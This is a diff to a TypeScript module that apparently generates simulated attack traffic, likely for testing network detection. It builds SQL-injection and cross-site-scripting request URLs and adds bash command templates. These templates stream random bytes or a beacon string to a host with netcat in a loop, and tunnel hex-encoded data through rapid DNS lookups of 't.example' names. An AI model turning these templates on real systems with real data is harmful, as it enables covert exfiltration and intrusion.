@@ -214,3 +214,24 @@ function injections(target: string, path: string, words: readonly string[]): str
 
 export const sqlInjection = (target: string): string[] => injections(target, '/app/reading?id=', sqlWords);
 export const crossSiteScripting = (target: string): string[] => injections(target, '/app/comment?text=', scriptWords);
+
+/** So many bytes that nobody knows, on a connection of their own each time, a second apart. */
+export const rawUpload = (target: string, port: number, bytes: number): string[] => [
+  'bash',
+  '-c',
+  `while :; do head -c ${bytes} /dev/urandom | busybox nc ${target} ${port}; sleep 1; done`,
+];
+
+/** A few words on a connection of their own each time, a second apart. */
+export const rawBeacon = (target: string, port: number): string[] => [
+  'bash',
+  '-c',
+  `while :; do echo id=4711-${'x'.repeat(60)} | busybox nc ${target} ${port}; sleep 1; done`,
+];
+
+/** What is stolen is in the names that are asked for: 76 bytes in three labels, twenty times a second at most. */
+export const nameUpload = (target: string): string[] => {
+  const label = (bytes: number): string => `$(head -c ${bytes} /dev/urandom | od -An -tx1 | tr -d ' \\n')`;
+  const name = `${label(28)}.${label(28)}.${label(20)}.t.example`;
+  return ['bash', '-c', `while :; do busybox nslookup -type=a ${name} ${target}; sleep 0.05; done`];
+};
